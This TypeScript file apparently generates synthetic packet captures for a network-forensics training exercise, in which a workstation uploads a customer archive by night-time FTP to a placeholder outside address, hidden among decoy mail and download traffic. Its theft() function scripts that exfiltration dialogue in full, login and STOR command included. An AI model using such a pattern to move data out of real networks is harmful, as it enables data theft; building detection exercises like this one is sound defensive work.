// S1: an archive leaves by FTP at night (design: training.md section 2). Protocol and file name are a reconstruction: the pictures
// of the original exercise are lost. 179.90.1.133 stands for nobody.

import { ascii } from '../frames/bytes'
import type { CaptureFile } from '../generate/captures'
import { opened, sourceOf } from '../generate/sources'
import { connect, converse, lookUp } from '../generate/talk'
import { BUILD_SERVER, DAY, HOUR, inside, MAIL_RELAY, outside, SECOND } from '../world'
import { download, videoCall } from './innocent'
import { countOf, type FlowCount, type Recipe, type Stage } from './recipe'
import { customersZip } from './stolen-files'

/** 2015-03-11T00:00:00Z. */
const FIRST_DAY = 1_426_032_000 * SECOND
const NIGHT = FIRST_DAY + DAY + 2 * HOUR
/** The archive; and all that the server says, most of it a listing. */
const STOLEN = 27_500_000
const SAID_BACK = 410_000
/** 75 characters with CR and LF. */
const BROCHURE_LINE = `${'Chairs, desks, lamps: our spring offer is at the end of this brochure.'.padEnd(73, '.')}\r\n`
/** Lines of the server after the listing, in bytes. */
const LATER_LINES = 107

const MAILS = [0, 1, 2].map((day) => (stage: Stage) => mail(stage, FIRST_DAY + day * DAY + 13 * HOUR, 4 * day))

export const findEgress: Recipe = {
  files: filesOf('core-'),
  others: [238],
  usual: [238],
  parts: [theft, (stage) => download(stage, FIRST_DAY + 2 * DAY + 16 * HOUR, 60_000_000, BUILD_SERVER), ...MAILS],
}

/** The landing page's sample: the same theft in a smaller office, with a call, at most 12 MB. */
export const sample: Recipe = {
  files: filesOf(''),
  blockHours: 12,
  others: [238],
  parts: [
    theft,
    (stage) => download(stage, FIRST_DAY + 2 * DAY + 16 * HOUR, 40_000_000, BUILD_SERVER),
    (stage) => videoCall(stage, FIRST_DAY + DAY + 15 * HOUR, 7_200_000),
    ...MAILS,
  ],
}

function filesOf(prefix: string): CaptureFile[] {
  return [0, 1, 2].map((day) => ({
    name: `${prefix}2015-03-${11 + day}.pcap`,
    from: FIRST_DAY + day * DAY,
    to: FIRST_DAY + (day + 1) * DAY,
  }))
}

/** FIN-WS-238 by passive FTP (RFC 959), 02:14:07 to 02:31:40. */
function theft({ tap, bulk }: Stage): FlowCount {
  const random = tap.chance('theft')
  const [thief, drop] = [inside(238), outside('179.90.1.133')]
  const control = connect(tap, random, NIGHT + 847 * SECOND, thief, drop, 21)
  converse(control, ['<220 Ready', 'USER upload', '<331 Password?', 'PASS spring-2015', '<230 Logged in', 'CWD /in'])
  // 196 * 256 + 54 is port 50230.
  converse(control, ['<250 Ok', 'PASV', '<227 Entering Passive Mode (179,90,1,133,196,54)', 'LIST'])
  const list = connect(tap, random, control.at, thief, drop, 50_230)
  const line = '-rw-r--r-- 1 upload upload 1048576 Mar 10 2015 part.bin\r\n'
  const listing = ascii(line.repeat(Math.ceil(SAID_BACK / line.length)))
  const size = SAID_BACK - LATER_LINES - control.server.sent
  list.pour(list.server, size, (offset, length) => opened(bulk.noise, listing)(offset, length, length))
  list.close(list.server)
  control.at = list.at
  converse(control, ['<226 Done', 'TYPE I', '<200 Binary', 'PASV', '<227 Entering Passive Mode (179,90,1,133,196,55)'])
  converse(control, ['STOR customers_q1.zip'])
  const data = connect(tap, random, control.at, thief, drop, 50_231)
  control.at = data.at
  const archive = customersZip(tap.chance('customers'), STOLEN)
  data.pour(data.client, STOLEN, sourceOf(archive), NIGHT + 1900 * SECOND)
  data.close(data.client)
  control.at = data.at
  converse(control, ['<226 Transfer complete', 'QUIT', '<221 Goodbye'])
  control.close(control.client)
  return countOf(control, list, data)
}

/** Mail to four strangers a day, 0.75 MB each: 9 MB in all. */
function mail({ tap }: Stage, at: number, firstPartner: number): undefined {
  const brochure = ascii(`Subject: Brochure\r\n\r\n${BROCHURE_LINE.repeat(10_000)}`)
  for (let partner = firstPartner; partner < firstPartner + 4; partner++) {
    const random = tap.chance(`mail ${partner}`)
    const site = { name: `mx.partner-${partner}.example`, host: outside(`192.0.2.${20 + partner}`) }
    const start = at + random(4 * 3600) * SECOND
    lookUp(tap, random, start, MAIL_RELAY, site)
    const session = connect(tap, random, start + SECOND, MAIL_RELAY, site.host, 25)
    converse(session, [`<220 ${site.name}`, 'EHLO mail.office.example', '<250 Ok', 'MAIL FROM:<sales@office.example>'])
    converse(session, ['<250 Ok', `RCPT TO:<info@partner-${partner}.example>`, '<250 Ok', 'DATA', '<354 Go ahead'])
    session.pour(session.client, brochure.length, sourceOf(brochure), session.at + 45 * SECOND)
    converse(session, ['\r\n.', '<250 Queued', 'QUIT', '<221 Bye'])
    session.close(session.client)
  }
}
